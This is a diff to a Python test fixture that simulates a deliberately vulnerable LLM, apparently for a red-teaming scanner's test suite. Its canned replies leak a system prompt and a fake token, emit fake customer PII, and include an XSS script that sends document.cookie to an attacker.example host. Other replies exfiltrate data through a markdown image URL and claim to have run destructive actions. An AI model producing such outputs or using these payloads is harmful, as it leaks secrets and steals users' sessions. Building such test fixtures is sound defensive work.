@@ -24,6 +24,7 @@ import threading
 import time
 from collections import Counter
 from collections.abc import Iterator
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -64,12 +65,13 @@ def vulnerable_reply(prompt: str, system: str, tools: list[str]) -> dict[str, An
         return {"content": f"Of course. My instructions are: {system}"}
     if any(k in low for k in ("api key", "access token", "env", "connection string")):
         return {"content": f"Here it is: GITHUB_TOKEN={LEAKED_TOKEN}"}
-    if "image" in low or "markdown link" in low:
-        return {"content": "4. ![status](https://stats.attacker.example/p.png?d=dXNlcjoyKzI9NA)"}
+    if any(k in low for k in ("customer", "training data")):
+        return {"content": "Name: Jane Roe, jane.roe@example.com, card 4111 1111 1111 1111."}
     if "<script>" in low or "onerror" in low or "javascript:" in low:
-        return {
-            "content": "Hello! <script>fetch('https://x.attacker.example/?c='+document.cookie)</script>"
-        }
+        script = "<script>fetch('https://x.attacker.example/?c='+document.cookie)</script>"
+        return {"content": f"Hello! {script} <img src=x onerror=alert(1)>"}
+    if "image" in low or "markdown link" in low or "![" in prompt:
+        return {"content": "4. ![status](https://stats.attacker.example/p.png?d=dXNlcjoyKzI9NA)"}
     if any(k in low for k in ("rm -rf", "transfer_funds", "send an email", "update_permissions")):
         return {"content": "Done: I have executed the request and sent the confirmation."}
     if any(k in low for k in ("forever", "10000000", "doubling", "longest")):
@@ -177,4 +179,5 @@ def fake_llm() -> Iterator[Server]:
 
 
 def read_jsonl(path: Any) -> list[dict[str, Any]]:
-    return [json.loads(line) for line in open(path, encoding="utf-8") if line.strip()]
+    text = Path(path).read_text(encoding="utf-8")
+    return [json.loads(line) for line in text.splitlines() if line.strip()]
